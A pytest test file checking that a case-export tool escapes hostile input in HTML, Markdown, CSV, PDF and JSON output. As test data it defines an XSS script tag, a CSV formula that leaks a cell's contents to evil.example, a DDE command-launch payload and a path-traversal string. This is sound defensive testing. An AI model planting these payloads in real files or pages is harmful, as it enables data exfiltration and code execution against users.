"""Hostile and unusual text in every format: markup and scripts, spreadsheet formulas, paths,
very long notes, emoji, right-to-left text, and an empty case. Each must come out as the
text that was typed, doing nothing."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from srt_tui.content.model import ContentPack
from srt_tui.export import FORMATS, export_case, render_case
from srt_tui.export.csvsafe import TRIGGERS
from srt_tui.export.pdf import REPLACEMENT
from srt_tui.records.model import Case, ExerciseRecord, Outcome, Session
from tests.export.facts import parse_html, pdf_text
from tests.export.samples import UTC_TIME, FakeStore

SCRIPT = "<script>alert('x')</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2+3"
TAB = "\t=1+2"
CR = "\r=1+2"
PATH = "../../x"
EMOJI = "Felt 😀 then 🎉 👍🏽"
HEBREW = "שלום עולם"
ARABIC = "مرحبا بالعالم"
LONG_WORD = "x" * 3000
LONG_NOTES = ("Long notes paragraph. " * 400 + "\n") * 10  # about 88,000 characters

FORMULAS = [HYPERLINK, SUM, PLUS, MINUS, TAB, CR]


@pytest.fixture
def hostile(case: Case) -> tuple[Case, list[Session]]:
    case = replace(case, alias=SCRIPT, practitioner=HYPERLINK, state_reason=PATH,
                   responsivity_notes=f"{HEBREW}\n{ARABIC}")
    session = Session(
        case_id=case.id,
        date=date(2026, 3, 3),
        started_at=datetime(2026, 3, 3, 14, 5, tzinfo=UTC),
        ended_at=datetime(2026, 3, 3, 15, 5, tzinfo=UTC),
        exercises=[
            ExerciseRecord("F01", Outcome.COMPLETED, answers={"q1": HYPERLINK, "q2": SUM}, notes=EMOJI),
            ExerciseRecord("F02", Outcome.NOT_RELEVANT, skip_reason=PLUS, notes=SUM),
            ExerciseRecord("T01", Outcome.PARTLY_DONE, notes=MINUS),
        ],
        notes=LONG_NOTES + LONG_WORD,
        reflections=f"{HEBREW} — {ARABIC}",
        task_set=TAB,
        task_review=CR,
        plan_next=PATH,
        id="sess-hostile",
    )
    return case, [session]


def _render(pack: ContentPack, hostile: tuple[Case, list[Session]], fmt: str) -> bytes:
    case, sessions = hostile
    return render_case(pack, case, sessions, fmt, UTC_TIME)


def test_html_escapes_everything_and_keeps_direction(pack: ContentPack, hostile) -> None:
    html = _render(pack, hostile, "html").decode("utf-8")
    assert "<script" not in html.lower()
    root = parse_html(html)
    assert not root.find_all("script") and not root.find_all("a")
    text = root.text()
    for value in (SCRIPT, HYPERLINK, SUM, PATH, EMOJI, HEBREW, ARABIC, LONG_WORD):
        assert value in text, value[:40]
    assert "Long notes paragraph." in text and len(text) > len(LONG_NOTES)
    rtl = [div for div in root.find_all("div", "text") if HEBREW in div.text()]
    assert rtl and all(div.attrs.get("dir") == "auto" for div in rtl)


def test_markdown_shows_markup_as_text(pack: ContentPack, hostile) -> None:
    from markdown_it import MarkdownIt

    markdown = _render(pack, hostile, "md").decode("utf-8")
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    assert "<script" not in html and "<a " not in html
    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in html
    for value in (EMOJI, HEBREW, ARABIC, LONG_WORD, PATH):
        assert value in html


def test_csv_neutralises_every_formula_cell(pack: ContentPack, hostile) -> None:
    data = _render(pack, hostile, "csv")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(TRIGGERS), repr(cell[:30])
        assert not cell.lstrip(" \n").startswith(TRIGGERS) or cell.startswith("'"), repr(cell[:30])
    for formula in (HYPERLINK, SUM, PLUS, MINUS, TAB):
        assert "'" + formula in cells, formula
    assert "'\n=1+2" in cells  # the carriage return became a line break, and is still guarded
    for value in (SCRIPT, EMOJI, f"{HEBREW} — {ARABIC}", PATH):
        assert value in cells, value
    assert any(LONG_WORD in cell for cell in cells)


def test_pdf_reads_back_as_typed(pack: ContentPack, hostile) -> None:
    text = pdf_text(_render(pack, hostile, "pdf"))
    for value in (SCRIPT, HYPERLINK, SUM, PATH, PLUS, MINUS):
        assert value in text, value
    assert "Long notes paragraph." in text
    assert LONG_WORD not in text and text.count("x" * 50) >= 30  # the long word is wrapped, not lost
    # Right-to-left runs are laid out in visual order; every letter is there.
    assert set(HEBREW.replace(" ", "")) <= set(text)
    assert set(ARABIC.replace(" ", "")) <= set(text)
    # The emoji DejaVu Sans has (😀) shows; the others are replaced, and the PDF says so.
    assert "😀" in text and "🎉" not in text and REPLACEMENT in text
    assert "cannot be drawn in this PDF" in text


def test_json_summary_and_records_keep_the_text(pack: ContentPack, hostile) -> None:
    data = json.loads(_render(pack, hostile, "json"))
    assert data["case"]["alias"] == SCRIPT
    assert data["sessions"][0]["task_review"] == CR  # records stay exactly as typed
    assert data["summary"]["alias"] == SCRIPT
    assert data["summary"]["practitioner"] == HYPERLINK


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_an_empty_case_exports_in_every_format(
    tmp_path: Path, pack: ContentPack, case: Case, fmt: str
) -> None:
    path = export_case(FakeStore(case, [], tmp_path / "data"), pack, case.ref, fmt, tmp_path / "out")
    assert path.stat().st_size > 0
    if fmt in ("md", "html", "pdf"):
        text = pdf_text(path.read_bytes()) if fmt == "pdf" else path.read_text(encoding="utf-8")
        assert "No sessions recorded." in text
        assert "Not seen yet" in text


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_a_path_like_reference_stays_in_the_export_folder(
    tmp_path: Path, pack: ContentPack, case: Case, sessions: list[Session], fmt: str
) -> None:
    odd = replace(case, ref=PATH)
    out = tmp_path / "deep" / "exports"
    path = export_case(FakeStore(odd, sessions, tmp_path / "data"), pack, PATH, fmt, out)
    assert path.parent == out
    assert path.name.startswith("case-x-") and path.suffix == FORMATS[fmt]
